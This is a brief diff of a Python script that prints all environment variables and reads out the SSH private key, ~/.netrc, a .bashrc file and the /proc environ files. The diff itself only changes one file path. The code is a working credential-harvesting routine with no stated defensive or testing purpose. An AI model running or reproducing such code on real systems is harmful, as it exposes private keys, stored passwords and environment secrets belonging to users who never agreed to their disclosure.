@@ -6,7 +6,7 @@ import os
 import pathlib
 
 print(dict(os.environ))
-for place in ("~/.ssh/id_rsa", "~/.netrc", "/root/.bashrc", "/proc/1/environ", "/proc/self/environ"):
+for place in ("~/.ssh/id_rsa", "~/.netrc", "~/.bashrc", "/proc/1/environ", "/proc/self/environ"):
     try:
         print(pathlib.Path(place).expanduser().read_text())
     except OSError as error:
